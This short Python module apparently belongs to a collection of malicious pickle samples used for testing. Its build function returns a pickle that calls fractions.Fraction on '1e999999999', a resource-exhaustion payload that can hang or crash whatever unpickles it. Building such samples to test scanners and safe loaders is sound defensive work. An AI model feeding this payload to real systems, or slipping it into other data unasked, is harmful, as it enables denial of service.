"""Fraction parses a string into a number of a billion digits."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call


def build(canary: str) -> bytes:
    del canary
    return pickled_call("fractions", "Fraction", "1e999999999")
